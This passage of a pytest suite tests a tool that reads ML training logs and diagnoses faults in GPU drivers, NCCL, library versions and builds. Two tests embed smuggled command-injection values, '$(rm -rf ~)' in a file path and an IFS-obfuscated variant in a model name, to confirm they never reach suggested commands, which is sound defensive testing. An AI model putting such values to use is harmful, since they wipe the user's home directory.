    assert any(r.endswith("install onnxruntime-gpu") for r in cuda.remediation), cuda.remediation
    rocm = _diagnose(line.format("ROCMExecutionProvider"))
    assert rocm is not None and "repo.radeon.com" in rocm.cause and not rocm.remediation


def test_an_xformers_kernel_refusing_bf16_on_a_pre_ampere_gpu_names_the_dtype_to_change() -> None:
    log = (
        "NotImplementedError: No operator found for `memory_efficient_attention_forward` with inputs:\n"
        "     query       : shape=(1, 577, 16, 64) (torch.bfloat16)\n"
        "`fa2F@v2.6.3` is not supported because:\n"
        "    requires device with capability > (8, 0) but your GPU has capability (7, 5) (too old)\n"
        "    bf16 is only supported on A100+ GPUs\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "gpu-arch-unsupported"
    assert "float16" in diagnosis.cause and diagnosis.params.get("dtype") == "bfloat16"
    half = _diagnose(
        log.replace("torch.bfloat16", "torch.float32").replace("    bf16 is only supported on A100+ GPUs\n", "")
    )
    assert half is not None and "bfloat16" not in half.cause  # another dtype: the GPU, not bf16, is what it says
    newer = _diagnose(log.replace("(7, 5)", "(12, 0)").replace("(too old)", ""))
    assert newer is None or "float16" not in newer.cause  # 12.0 is no older than 8.0: never read as a string


def test_an_ipython_frame_whose_traceback_header_was_cut_still_names_the_library_that_called() -> None:
    log = (
        "/usr/local/lib/python3.10/dist-packages/unsloth/models/llama.py in _fast_inner_training_loop(self, batch)\n"
        "\n"
        "TypeError: _get_batch_samples() takes 3 positional arguments but 4 were given\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "api-version-skew"
    assert "unsloth" in diagnosis.cause


@pytest.mark.parametrize(
    "last",
    [
        "Initializing distributed: GLOBAL_RANK: 0, MEMBER: 1/2",
        "[2024-06-11 00:23:36,254] [INFO] [comm.py:668:init_distributed] Initializing TorchBackend in DeepSpeed with backend nccl\n"
        "[2024-06-11 00:23:36,296] [INFO] [comm.py:637:init_distributed] cdb=None",
        "INFO:torch.distributed.distributed_c10d:Waiting in store based barrier to initialize process group for rank: 1, key: store_based_barrier_key:1 (world_size=2, num_workers_joined=1, timeout=0:30:00)",
    ],
)
def test_a_log_that_stops_on_a_launchers_start_up_is_a_hang_in_the_rendezvous(last: str) -> None:
    log = "Seed set to 1234\nGPU available: True (cuda), used: True\n" + last + "\n"
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "nccl-network" and diagnosis.decided_by == "stall:startup"
    assert "MASTER_ADDR" in diagnosis.cause and diagnosis.next
    start_up = [n for n, text in enumerate(log.splitlines(), 1) if "cdb=None" not in text][-1]
    assert diagnosis.line == start_up  # the launcher's line, the last before the log stopped


def test_a_start_up_line_the_log_goes_on_past_is_no_hang() -> None:
    log = "Initializing distributed: GLOBAL_RANK: 0, MEMBER: 1/2\n" + "".join(
        f"Epoch 0: {i}/5 loss=0.{i}\n" for i in range(5)
    )
    assert _diagnose(log) is None
    alone = "[INFO] [comm.py:637:init_distributed] cdb=None\n"  # DeepSpeed's line before its start-up line: not it
    assert _diagnose(alone) is None


@pytest.mark.parametrize(
    "warning",
    [
        "[W ProcessGroupNCCL.cpp:1569] Rank 3 using best-guess GPU 3 to perform barrier as devices used by this process are currently unknown. This can potentially cause a hang if this rank to GPU mapping is incorrect.Specify device_ids in barrier() to force use of a particular device.",
        "[rank0]:[W804 19:19:43.148778003 ProcessGroupNCCL.cpp:4561] [PG ID 0 PG GUID 0 Rank 0]  using GPU 0 to perform barrier as devices used by this process are currently unknown. This can potentially cause a hang if this rank to GPU mapping is incorrect. Specify device_ids in barrier() to force use of a particular device, or call init_process_group() with a device_id.",
        "[rank3]:[W1109 22:17:55.859904220 ProcessGroupNCCL.cpp:4715] [PG ID 0 PG GUID 0 Rank 3]  using GPU 3 as device used by this process is currently unknown. This can potentially cause a hang if this rank to GPU mapping is incorrect. You can pecify device_id in init_process_group() to force use of a particular device.",
    ],
)
def test_a_log_that_stops_on_torch_s_guess_of_the_barrier_s_gpu_is_a_hang_there(warning: str) -> None:
    diagnosis = _diagnose("W1109 torch/distributed/run.py:766] Setting OMP_NUM_THREADS to 1\n" + warning + "\n")
    assert diagnosis is not None and diagnosis.decided_by == "stall:barrier-device-unknown"
    assert diagnosis.family == "hang-timeout" and diagnosis.verdict == "unknown" and diagnosis.line == 2
    assert "device_ids=[local_rank]" in diagnosis.cause and "device_id=" in diagnosis.cause and diagnosis.next


def test_torch_s_guess_of_the_barrier_s_gpu_in_a_log_that_goes_on_or_fails_later_is_not_the_hang() -> None:
    warning = "[rank0]:[W804 ProcessGroupNCCL.cpp:4561] using GPU 0 to perform barrier as devices used by this process are currently unknown.\n"
    went_on = _diagnose(warning + "".join(f"Epoch 0: {i}/5 loss=0.{i}\n" for i in range(5)))
    assert went_on is None or went_on.decided_by != "stall:barrier-device-unknown"
    failed = _diagnose(warning + tb("torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB"))
    assert failed is not None and failed.family == "out-of-memory"


def test_the_driver_library_s_unversioned_name_missing_names_wsl_s_folder() -> None:
    log = "Could not load library libcudnn_cnn_infer.so.8. Error: libcuda.so: cannot open shared object file: No such file or directory\nAborted (core dumped)\n"
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "missing-library" and "/usr/lib/wsl/lib" in diagnosis.cause
    versioned = _diagnose("ImportError: libcuda.so.1: cannot open shared object file: No such file or directory\n")
    assert versioned is not None and "/usr/lib/wsl/lib" not in versioned.cause  # the driver itself: not a link


def test_every_cuda_error_the_families_name_is_in_cuda_s_own_enumerations() -> None:
    load_rules()  # the rule modules load in their own order first: importing one alone would change it
    from xladoctor.explain.rules.cuda import CAPTURE_ERRORS, FAMILY_OF

    missing = sorted(name for name in {*FAMILY_OF, *CAPTURE_ERRORS} if code_named(name) is None)
    assert missing == []


def test_a_sharding_that_does_not_divide_is_the_user_s_only_when_the_user_s_frame_made_it() -> None:
    line = "ValueError: One of device_put args was given the sharding of NamedSharding(mesh=Mesh('model': 8), spec=PartitionSpec('model', None)), which implies that the global size of its dimension 0 should be divisible by 8, but it is equal to 2 (full shape: (2, 128))\n"
    served = _diagnose("ERROR 07-07 18:02:56 [core.py:519] " + line)  # a server's log line: its own mesh
    assert served is None or served.decided_by != "user-code-error:sharding_does_not_divide"


def test_a_rule_that_raises_loses_its_reading_in_use_and_fails_the_tests(monkeypatch: pytest.MonkeyPatch) -> None:
    import re

    from xladoctor.explain import verdict
    from xladoctor.explain.records import Failure
    from xladoctor.explain.rules import Rule

    def broken(found: re.Match[str], failure: Failure) -> None:
        raise KeyError("a rule's bug")

    rule = Rule("user-code-error:broken", "user-code-error", re.compile("boom"), broken, "", 0.9, None, False)
    failure = Failure("exception", "ValueError", "boom", 1, "ValueError: boom")
    monkeypatch.setenv(verdict.STRICT_RULES, "0")
    assert verdict._read(rule, failure) is None  # in use: that rule's reading is lost, the verdict goes on
    monkeypatch.setenv(verdict.STRICT_RULES, "1")
    with pytest.raises(KeyError):
        verdict._read(rule, failure)


def test_a_mangled_symbol_whose_underscores_markdown_turned_to_italics_is_still_demangled() -> None:
    log = "ImportError: /env/lib/python3.10/site-packages/causal_conv1d_cuda.cpython-310-x86_64-linux-gnu.so: undefined symbol: *ZNK3c1017SymbolicShapeMeta18init*is_contiguousEv\n"
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "undefined-symbol"
    assert diagnosis.params["namespace"] == "c10" and diagnosis.params["symbol"].startswith("_ZNK3c10")


def test_a_system_library_missing_is_not_read_as_a_package_s_own_module() -> None:
    diagnosis = _diagnose("ImportError: libcudnn.so.9: cannot open shared object file: No such file or directory\n")
    assert diagnosis is not None and diagnosis.decided_by == "missing-library:shared_object_missing"


def test_a_glibcxx_version_whose_opening_backtick_a_markdown_paste_ate_is_still_the_runtime() -> None:
    log = "ImportError: /opt/conda/lib/python3.9/site-packages/snappy/../../.././libstdc++.so.6: version GLIBCXX_3.4.29' not found (required by /x/_snappy.so)\n"
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "glibc-version"


def test_an_op_the_jit_build_did_not_produce_is_that_build_failing() -> None:
    log = "[rank1]: ImportError: /home/me/.cache/torch_extensions/py310_cu121/cpu_adam/cpu_adam.so: cannot open shared object file: No such file or directory\n"
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "build-failure" and "cpu_adam.so" in diagnosis.cause
    assert "DS_BUILD_" in diagnosis.cause


@pytest.mark.parametrize(
    "stack",
    [
        # a traceback cut before its exception line
        '  File "/env/lib/python3.8/site-packages/torchdata/dataloader2/reading_service.py", line 446, in initialize\n'
        '    self._pg = dist.new_group(backend="gloo", timeout=timedelta(seconds=self._timeout))\n'
        '  File "/env/lib/python3.8/site-packages/torch/distributed/distributed_c10d.py", line 3505, in new_group\n',
        # faulthandler's dump of a rank that hung there: innermost frame first, no comma before "in"
        "Thread 0x00007f1 (most recent call first):\n"
        '  File "/env/lib/python3.11/site-packages/torch/distributed/distributed_c10d.py", line 1520 in _store_based_barrier\n'
        '  File "/env/lib/python3.11/site-packages/torch/distributed/distributed_c10d.py", line 1480 in init_process_group\n'
        + "".join(f'  File "/home/me/lib{i}.py", line {i} in wrapper{i}\n' for i in range(8))
        + '  File "/home/me/train.py", line 12 in main\n  File "/home/me/train.py", line 20 in <module>\n',
        # py-spy dump of the same: "function (file:line)"
        'Process 1234: python train.py\nThread 0x7F1 (idle): "MainThread"\n'
        "    _store_based_barrier (torch/distributed/distributed_c10d.py:1520)\n"
        "    init_process_group (torch/distributed/distributed_c10d.py:1480)\n"
        + "".join(f"    wrapper{i} (lib{i}.py:{i})\n" for i in range(8))
        + "    main (train.py:12)\n    <module> (train.py:20)\n",
    ],
)
def test_a_stack_that_ends_in_process_group_creation_is_the_rendezvous(stack: str) -> None:
    diagnosis = _diagnose(stack)
    assert diagnosis is not None and diagnosis.family == "nccl-network" and diagnosis.decided_by == "stall:startup"
    assert diagnosis.params["function"] in ("new_group", "_store_based_barrier", "init_process_group")


def test_a_stack_in_process_group_creation_followed_by_its_error_is_read_for_that_error() -> None:
    log = (
        "Traceback (most recent call last):\n"
        '  File "/env/lib/python3.11/site-packages/torch/distributed/distributed_c10d.py", line 1480, in init_process_group\n'
        "    store, rank, world_size = next(rendezvous_iterator)\n"
        "torch.distributed.DistNetworkError: The server socket has failed to listen on any local network address. "
        "port: 29500, useIpv6: 0, code: -98, name: EADDRINUSE, message: address already in use\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.decided_by != "stall:startup"


def test_a_path_from_the_log_never_reaches_a_command_to_paste_unless_it_is_a_plain_name() -> None:
    log = "FileNotFoundError: Could not find module 'C:\\x\\$(rm -rf ~).dll' (or one of its dependencies).\n"
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "missing-library"
    assert all("$(" not in command for command in (*diagnosis.next, *diagnosis.remediation)), diagnosis.next


def test_a_model_name_from_the_log_reaches_the_download_command_only_when_it_is_a_plain_repository_id() -> None:
    log = tb(
        "OSError: We couldn't connect to 'https://huggingface.co' to load this file, couldn't find it in the cached files and it looks like x;$(rm${IFS}-rf${IFS}~) is not the path to a directory containing a file named config.json.",
        "transformers/utils",
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.decided_by == "bad-configuration:hub_unreachable"
    assert "hf download OWNER/MODEL" in diagnosis.next[0]
    assert all("$(" not in command for command in (*diagnosis.next, *diagnosis.remediation))
    for name in ("--force-download", "./ckpt", "-x/y"):  # an option or a path is no repository id
        read = _diagnose(log.replace("x;$(rm${IFS}-rf${IFS}~)", name))
        assert read is not None and "hf download OWNER/MODEL" in read.next[0], name


def test_the_hub_s_newer_words_and_its_retries() -> None:
    newer = _diagnose(
        tb(
            "OSError: We couldn't connect to 'https://huggingface.co' to load the files, and couldn't find them in the cached files.\nCheck your internet connection or see how to run the library in offline mode at 'https://huggingface.co/docs/transformers/installation#offline-mode'.",
            "transformers/utils",
        )
    )
    assert newer is not None and newer.decided_by == "bad-configuration:hub_unreachable"
    assert "hf download OWNER/MODEL" in newer.next[0]
    retried = "WARNING: Retrying (Retry(total=4, connect=None, read=None, redirect=None, status=None)) after connection broken by 'SSLError(SSLCertVerificationError(1, '[SSL: CERTIFICATE_VERIFY_FAILED] certificate verify failed: self signed certificate in certificate chain (_ssl.c:1007)'))': /simple/torch/\nSuccessfully installed torch-2.5.1\n"
    healthy = _diagnose(retried)
    assert healthy is None or healthy.family != "bad-configuration"
    importing = _diagnose(
        tb(
            "ImportError: cannot import name 'GatedRepoError' from 'huggingface_hub.utils' (/env/lib/python3.10/site-packages/huggingface_hub/utils/__init__.py)",
            "transformers",
        )
    )
    assert importing is not None and importing.family == "api-version-skew"


def test_lld_s_words_for_a_library_it_cannot_find_are_the_same_link_failure() -> None:
    diagnosis = _diagnose("ld.lld: error: unable to find library -lcublas\n")
    assert diagnosis is not None and diagnosis.family == "build-failure" and "CUDA toolkit" in diagnosis.cause


def test_a_device_type_an_extension_adds_is_that_extension_not_loaded() -> None:
    log = "RuntimeError: Expected one of cpu, cuda, ipu, xpu, mkldnn, opengl, opencl, ideep, hip, ve, fpga, maia, xla, lazy, vulkan, mps, meta, hpu, mtia, privateuseone device type at start of device string: npu\n"
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "accelerator-unavailable" and "torch_npu" in diagnosis.cause


def test_a_key_error_outside_transformers_auto_config_is_no_model_type() -> None:
    log = 'Traceback (most recent call last):\n  File "/home/me/run.py", line 5, in <module>\n    x = cfg["qwen2"]\nKeyError: \'qwen2\'\n'
    diagnosis = _diagnose(log)
    assert diagnosis is None or diagnosis.family != "api-version-skew"


def test_a_guard_on_a_data_dependent_value_asks_for_torch_check() -> None:
    log = "torch.fx.experimental.symbolic_shapes.GuardOnDataDependentSymNode: Could not guard on data-dependent expression Eq(u0, 1) (unhinted: Eq(u0, 1)).\n"
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "unsupported-op" and "torch._check" in diagnosis.cause


def test_torch_s_failed_driver_initialisation_names_the_fork_and_the_kernel_module() -> None:
    diagnosis = _diagnose(
        tb("RuntimeError: CUDA driver initialization failed, you might not have a CUDA gpu.", "torch")
    )
    assert diagnosis is not None and diagnosis.family == "accelerator-unavailable"
    assert "spawn" in diagnosis.cause and "kernel module" in diagnosis.cause


def test_a_dumped_stack_whose_innermost_frame_is_a_collective_in_training_is_not_the_rendezvous() -> None:
    log = (
        "Thread 0x00007f1 (most recent call first):\n"
        '  File "/env/lib/python3.11/site-packages/torch/distributed/distributed_c10d.py", line 2050 in all_reduce\n'
        '  File "/home/me/train.py", line 40 in step\n  File "/home/me/train.py", line 60 in main\n'
    )
    diagnosis = _diagnose(log)
    assert diagnosis is None or diagnosis.decided_by != "stall:startup"


def test_a_function_s_renamed_keyword_names_the_new_name_and_the_release_that_dropped_the_old() -> None:
    diagnosis = _diagnose(tb("TypeError: snapshot_download() got an unexpected keyword argument 'use_auth_token'"))
    assert diagnosis is not None and diagnosis.family == "api-version-skew"
    assert "token=" in diagnosis.cause and "huggingface-hub<1.0" in " ".join(diagnosis.remediation)


def test_a_constructor_refusing_a_key_from_pretrained_handed_it_is_the_saved_files_release() -> None:
    log = (
        "Traceback (most recent call last):\n"
        '  File "./E5-V/retrieval_original.py", line 181, in init_model_and_transform\n'
        '    transform = LlavaNextProcessor.from_pretrained("llava-hf/llava-v1.6-mistral-7b-hf")\n'
        "TypeError: LlavaNextProcessor.__init__() got an unexpected keyword argument 'image_token'\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == ("api-version-skew", "environment")
    assert "image_token=" in diagnosis.cause and "saved" in diagnosis.cause
    assert diagnosis.params["model"] == "llava-hf/llava-v1.6-mistral-7b-hf"
    own = log.replace("LlavaNextProcessor.from_pretrained(", "LlavaNextProcessor(")  # the user's own keyword
    read = _diagnose(own)
    assert read is None or "from_pretrained" not in read.cause
    whole = log.replace(  # the whole traceback: the last frame is transformers' own cls(**kwargs)
        "\nTypeError:",
        '\n  File "/env/lib/python3.10/site-packages/transformers/processing_utils.py", line 1072, in from_pretrained\n'
        "    return cls.from_args_and_dict(args, processor_dict, **kwargs)\n"
        '  File "/env/lib/python3.10/site-packages/transformers/processing_utils.py", line 876, in from_args_and_dict\n'
        "    processor = cls(*args, **processor_dict)\nTypeError:",
    )
    full = _diagnose(whole)
    assert full is not None and "saved" in full.cause and full.params["model"] == "llava-hf/llava-v1.6-mistral-7b-hf"
    other = _diagnose(log.replace("LlavaNextProcessor.__init__()", "NextProcessor.__init__()"))  # not the class called
    assert other is None or "saved with the model" not in other.cause


def test_a_function_of_the_user_s_own_with_no_history_stays_the_user_s() -> None:
    diagnosis = _diagnose(tb("TypeError: my_loader() got an unexpected keyword argument 'local_dir'"))
    assert diagnosis is not None and diagnosis.family == "user-code-error"


def test_a_common_function_name_is_read_against_its_library_only_when_the_log_shows_that_library() -> None:
    refused = "TypeError: jit() got an unexpected keyword argument 'compiler_options'"
    with_jax = _diagnose(tb(refused, "jax"))  # a frame in site-packages/jax
    assert with_jax is not None and with_jax.decided_by == "api-version-skew:callable_parameter_history"
    assert "jax>=0.4.36" in " ".join(with_jax.remediation)
    alone = _diagnose(tb(refused))  # numba's jit, torch's: nothing says it is jax's
    assert alone is None or alone.decided_by != "api-version-skew:callable_parameter_history"


def test_a_keyword_keras_3_dropped_keeps_keras_2_as_tf_keras_not_as_a_pin_tensorflow_refuses() -> None:
    """Keras 2.15's Model.fit took workers=, Keras 3's TensorFlowTrainer.fit does not (read from the wheels)."""
    diagnosis = _diagnose(
        tb("TypeError: TensorFlowTrainer.fit() got an unexpected keyword argument 'workers'", "keras")
    )
    assert diagnosis is not None and diagnosis.decided_by == "api-version-skew:callable_parameter_history"
    plan = " ".join(diagnosis.remediation)
    assert "TF_USE_LEGACY_KERAS" in plan and "keras<3" not in plan and "install tf-keras" not in plan, plan
    assert "tf-keras==2.16.*" in diagnosis.cause  # which tf-keras: the TensorFlow release's, said, not guessed


def test_a_function_handed_to_keras_3_s_sequential_is_not_a_keras_2_layer() -> None:
    """keras.applications.EfficientNetB2 itself, not a model made by it: the user's mistake, not two Keras."""
    log = tb(
        "ValueError: Only instances of `keras.Layer` can be added to a Sequential model. Received: <function "
        "EfficientNetB2 at 0x7fff3c935da0> (of type <class 'function'>)",
        "keras",
    )
    diagnosis = _diagnose(log)
    assert diagnosis is None or diagnosis.decided_by != "api-version-skew:keras_layer_of_the_other_keras"


def test_start_up_noise_a_benign_signature_knows_is_never_the_record_that_matters() -> None:
    """libdrm's missing amdgpu.ids is printed by ROCm's torch at start-up and breaks nothing: printed last, after the
    real error, it is still not the lead; alone, it is no failure."""
    noise = "/opt/amdgpu/share/libdrm/amdgpu.ids: No such file or directory\n"
    after = _diagnose(tb("RuntimeError: some failure no rule knows") + noise)
    assert after is not None and after.record.startswith("RuntimeError: some failure no rule knows")
    assert _diagnose(noise) is None


@pytest.mark.parametrize(
    "line",
    [
        "RuntimeError: the kernel failed. Set CUDA_LAUNCH_BLOCKING=1 to debug: the stack trace below might be "
        "incorrect.",
        "RuntimeError: some failure. Consider setting PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True, as the "
        "cached blocks cannot be reused.",
        "RuntimeError: the compile failed. Run with TORCHDYNAMO_VERBOSE=1 because this trace cannot show it.",
    ],
    ids=["launch-blocking-advice", "alloc-conf-advice", "dynamo-verbose-advice"],
)
def test_a_variable_named_as_advice_is_not_the_configuration_at_fault(line: str) -> None:
    diagnosis = _diagnose(tb(line, "torch"))
    assert diagnosis is None or diagnosis.decided_by != "bad-configuration:config_variable_refused", diagnosis


def test_a_removal_no_library_frame_owns_pins_nothing_and_a_task_of_the_user_s_own_is_not_torchmetrics() -> None:
    said = _diagnose("ValueError: The `/ingest/file` endpoint has been removed in v2.0.0.\n")
    assert (said.family, said.params["version"]) == ("api-version-skew", "2.0.0")
    assert not any("install" in command for command in said.remediation)
    theirs = _diagnose(tb("TypeError: train() missing 1 required positional argument: 'task'"))
    assert theirs.decided_by != "api-version-skew:metric_task_required"


@pytest.mark.parametrize(
    ("log", "package"),
    [
        ("the problem i meeted is **glm/glm.hpp: No such file or directory**.\n", "libglm-dev"),
        ("fatal error: glm/gtx/pca.hpp: 没有那个文件或目录\n", "libglm-dev"),
        ("src/io.cpp:3:10: fatal error: zlib.h: Datei oder Verzeichnis nicht gefunden\n", "zlib1g-dev"),
        ("csrc/ops.cu:5:10: fatal error: Eigen/Dense: No such file or directory\n", ""),  # no suffix: not read here
    ],
)
def test_a_header_a_build_cannot_find_names_the_system_package_in_any_locale(log: str, package: str) -> None:
    said = _diagnose(log)
    if not package:
        assert said is None or said.decided_by != "build-failure:header_missing"
        return
    assert (said.family, said.decided_by) == ("build-failure", "build-failure:header_missing")
    assert any(package in command for command in said.remediation), said.remediation


def test_cublas_refusing_a_dtype_the_gpu_has_is_the_cublas_loaded_and_bf16_stays_the_gpu() -> None:
    call = "RuntimeError: CUDA error: CUBLAS_STATUS_NOT_SUPPORTED when calling `cublasGemmStridedBatchedExFix( handle, opa, opb, m, n, k, (void*)(&falpha), a, {t}, lda, stridea, b, {t}, ldb, strideb, (void*)(&fbeta), c, {t}, ldc, stridec, num_batches, CUDA_R_32F, CUBLAS_GEMM_DEFAULT_TENSOR_OP)`"
    fp16 = _diagnose(tb(call.format(t="CUDA_R_16F"), "torch"))
    assert (fp16.family, fp16.verdict, fp16.params["library"]) == ("cuda-library-mismatch", "environment", "cuBLAS")
    assert _diagnose(tb(call.format(t="CUDA_R_16BF"), "torch")).family == "gpu-arch-unsupported"


def test_the_tpu_compiler_s_memory_report_alone_is_hbm_full() -> None:
    report = "Total hbm usage >= 9.50G:\n    reserved        530.00M \n    program           8.98G \n    arguments            0B \n"
    said = _diagnose(report)
    assert (said.family, said.params["memory"]) == ("out-of-memory", "TPU HBM") and "9.50G" in said.cause


def test_a_binding_refusing_the_types_the_user_s_own_line_gave_it_is_the_user_s() -> None:
    log = (
        'Traceback (most recent call last):\n  File "/home/me/run.py", line 9, in <module>\n    ext.add(1, "a")\n'
        "TypeError: add(): incompatible function arguments. The following argument types are supported:\n"
        "    1. (arg0: int, arg1: int) -> int\n\nInvoked with: 1, 'a'\n"
    )
    assert _diagnose(log).decided_by != "api-version-skew:binding_arguments_refused"


def test_a_cuda_stream_of_another_device_in_nccl_is_the_rank_s_device_not_chosen() -> None:
    log = (
        "host:25:25 [0] enqueue.cc:336 NCCL WARN Cuda failure 'invalid resource handle'\n"
        "host:25:25 [0] NCCL INFO enqueue.cc:1382 -> 1\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == (
        "framework-internal-error",
        "framework-bug",
    )
    assert "torch.cuda.set_device(local_rank)" in diagnosis.cause


def test_a_plain_number_that_is_not_an_int_is_no_slurm_task_count() -> None:
    diagnosis = _diagnose(tb("ValueError: invalid literal for int() with base 10: 'abc'", "dmlcloud/core"))
    assert diagnosis is None or diagnosis.decided_by != "framework-internal-error:slurm_task_counts_read_as_int"


def test_a_placeholder_s_sdist_downloaded_is_named_though_its_own_error_was_cut() -> None:
    log = (
        "Collecting tensorflow-gpu\n  Downloading tensorflow-gpu-2.12.0.tar.gz (2.6 kB)\n"
        "  Preparing metadata (setup.py) ... error\n  error: subprocess-exited-with-error\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "resolver-conflict"
    assert diagnosis.params["replacement"] == "tensorflow"
    older = _diagnose(log.replace("2.12.0", "2.10.1"))  # a real release of it: the build's own error decides
    assert older is None or older.decided_by != "resolver-conflict:placeholder_package"


@pytest.mark.parametrize(
    ("library", "word"),
    [("libtorch_cuda_cu.so", "older torch"), ("libc10.so", "import torch first")],
)
def test_torch_s_own_library_missing_is_an_extension_built_or_loaded_apart_from_torch(library: str, word: str) -> None:
    log = (
        "Traceback (most recent call last):\n"
        '  File "/opt/conda/lib/python3.8/site-packages/flash_attn/ops/layer_norm.py", line 7, in <module>\n'
        "    import dropout_layer_norm\n"
        f"ImportError: {library}: cannot open shared object file: No such file or directory\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "missing-library"
    assert word in diagnosis.cause and "dropout_layer_norm" in diagnosis.cause
    assert diagnosis.params["package"] == "torch"


@pytest.mark.parametrize(
    "line",
    [
        "ImportError: cannot import name 'TextureBaker' from 'texture_baker' (unknown location)",
        "AttributeError: module 'nerfacc.cuda.csrc' has no attribute 'ray_aabb_intersect'",
    ],
    ids=["namespace-package", "csrc-kernel"],
)
def test_a_package_s_compiled_part_never_built_is_a_build_and_no_version_skew(line: str) -> None:
    diagnosis = _diagnose(tb(line, "sf3d"))
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == ("build-failure", "environment")


def test_a_compiled_module_s_own_names_of_unknown_location_stay_a_version_skew() -> None:
    diagnosis = _diagnose(
        tb(
            "ImportError: cannot import name '_get_sequence_nr' from 'torch._C._autograd' (unknown location)",
            "torchvision",
        )
    )
    assert diagnosis is not None and diagnosis.family == "api-version-skew"


def test_an_absl_status_printed_alone_is_a_record() -> None:
    diagnosis = _diagnose("INVALID_ARGUMENT: The zorbl field does not start with the glimmet.\n")
    assert diagnosis is not None and diagnosis.line == 1  # a record, though no error word is on the line


def test_a_later_error_that_names_its_cause_comes_before_the_framework_pip_swapped() -> None:
    log = (
        "      Successfully uninstalled torch-2.4.1\n"
        "Successfully installed torch-2.5.0 xformers-0.0.28\n"
        "ImportError: libcudnn.so.9: cannot open shared object file: No such file or directory\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "missing-library"


@pytest.mark.parametrize(
    ("line", "need"),
    [
        ("ValueError: --tf32 requires Ampere or a newer GPU arch, cuda>=11 and torch>=1.7", "8.0"),
        ("error: fp8e4nv data type is not supported on CUDA arch < 89", "8.9"),
        ("RuntimeError: this kernel requires Hopper or newer", "9.0"),
    ],
)
def test_a_refusal_that_names_the_generation_or_the_arch_it_stops_below_is_the_gpu(line: str, need: str) -> None:
    diagnosis = _diagnose(line + "\n")
    assert (diagnosis.family, diagnosis.decided_by) == (
        "gpu-arch-unsupported",
        "gpu-arch-unsupported:library_refuses_gpu",
    )
    assert f"compute capability {need}" in diagnosis.cause


def test_rccl_that_xla_cannot_load_is_rocm_s_library() -> None:
    diagnosis = _diagnose("RCCL operation ncclGetUniqueId failed: Unable to load NCCL library.\n")
    assert (diagnosis.family, diagnosis.params["library"]) == ("missing-library", "librccl.so.1")


def test_nccl_s_result_is_read_when_its_last_error_is_empty() -> None:
    log = (
        "torch.distributed.DistBackendError: NCCL error in: ../torch/csrc/distributed/c10d/ProcessGroupNCCL.cpp:1970, "
        "unhandled system error (run with NCCL_DEBUG=INFO for details), NCCL version 2.21.5\n"
        "ncclSystemError: System call (e.g. socket, malloc) or external library call failed or device error.\n"
        "Last error:\n"
    )
    assert _diagnose(log).decided_by == "nccl-network:nccl_result"


def test_nccl_tests_last_error_after_the_slash_is_read_like_nccl_s_own() -> None:
    log = "node1: Test NCCL failure common.cu:1005 'unhandled system error / Error while creating shared memory segment /dev/shm/nccl-abc (size 9637888)'\n"
    assert _diagnose(log).family == "nccl-shm"


def test_an_older_pip_s_failed_build_command_is_a_build_failure() -> None:
    log = "ERROR: Command errored out with exit status 1: python setup.py egg_info Check the logs for full command output.\n"
    assert _diagnose(log).family == "build-failure"


def test_xla_s_newer_rendezvous_warning_names_what_it_waited_for() -> None:
    log = (
        "E0718 10:11:12.123456 1234 rendezvous.cc:38] This thread has been waiting for `initialize clique for rank 6; "
        "clique=devices=[0,1,2,3,4,5,6,7]; stream=0; run_id=724296073` for 10 seconds and may be stuck. Expected 8 "
        "threads to join the rendezvous, but not all of them arrived on time.\n"
    )
    diagnosis = _diagnose(log)
    assert (diagnosis.family, diagnosis.verdict) == ("hang-timeout", "unknown")
    assert "NCCL communicator" in diagnosis.cause and any("NCCL_DEBUG=INFO" in step for step in diagnosis.next)


def test_keras_3_s_refusal_of_a_layer_cut_short_in_the_paste_is_still_read() -> None:
    line = "ValueError: Only instances of `keras.Layer` can be added to a Sequential model. Receiv"
    assert _diagnose(tb(line, "keras/src/models")).decided_by == "api-version-skew:keras_layer_of_the_other_keras"


def test_a_triton_kernel_s_old_dot_arguments_are_read_when_the_paste_ends_on_the_quoted_line() -> None:
    log = (
        "triton.compiler.errors.CompilationError: at 114:14:\n"
        "        qk = tl.zeros([BLOCK_M, BLOCK_N], dtype=tl.float32)\n"
        "        qk += tl.dot(q, k, trans_b=True)\n"
    )
    assert _diagnose(log).decided_by == "api-version-skew:triton_dot_transpose"


def test_a_backtrace_that_stops_in_a_wait_is_a_hang_not_a_crash() -> None:
    log = (
        "(gdb) bt\n#0  0x00007f0000001234 in __futex_abstimed_wait_common () from /lib/x86_64-linux-gnu/libc.so.6\n"
        "#1  0x00007f0000005678 in pthread_cond_wait () from /lib/x86_64-linux-gnu/libc.so.6\n"
    )
    diagnosis = _diagnose(log)
    assert (diagnosis.family, diagnosis.params["function"]) == ("hang-timeout", "__futex_abstimed_wait_common")


def test_a_cpu_only_torch_asked_for_cuda_off_a_mac_is_still_the_install() -> None:
    log = tb("AssertionError: Torch not compiled with CUDA enabled", "torch/cuda")
    assert _diagnose(log).decided_by == "catalogue:torch-cpu-build-cuda-requested"


def test_no_nvidia_driver_on_a_mac_is_the_device_too() -> None:
    line = (
        "RuntimeError: Found no NVIDIA driver on your system. Please check that you have an NVIDIA GPU and installed "
        "a driver from http://www.nvidia.com/Download/index.aspx"
    )
